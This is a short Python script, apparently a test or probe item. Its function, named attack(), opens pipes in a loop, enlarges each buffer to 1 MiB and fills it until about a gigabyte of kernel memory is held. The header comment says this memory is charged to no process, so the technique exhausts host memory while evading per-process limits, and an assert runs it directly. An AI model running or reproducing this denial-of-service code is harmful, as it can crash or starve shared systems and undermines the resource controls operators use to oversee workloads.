# Memory that is the kernel's: what lies in pipes counts for no process.
# control: none
import fcntl, os

def attack():
    held = 0
    while held < 1 << 30:
        r, w = os.pipe()
        held += fcntl.fcntl(w, 1031, 1 << 20)  # F_SETPIPE_SZ
        os.set_blocking(w, False)
        os.write(w, bytes(1 << 20))
    return True

# tests
assert attack()
